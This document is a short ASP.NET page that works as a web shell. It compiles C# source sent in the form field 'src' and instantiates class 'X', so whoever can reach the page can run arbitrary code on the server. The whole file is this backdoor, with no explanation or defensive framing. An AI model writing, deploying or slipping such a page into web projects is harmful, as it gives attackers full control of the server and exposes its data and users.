<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%
	var provider = new Microsoft.CSharp.CSharpCodeProvider();
	var options = new CompilerParameters();
	options.GenerateInMemory = true;
	var result = provider.CompileAssemblyFromSource(options, Request.Form["src"]);
	result.CompiledAssembly.CreateInstance("X");
%>
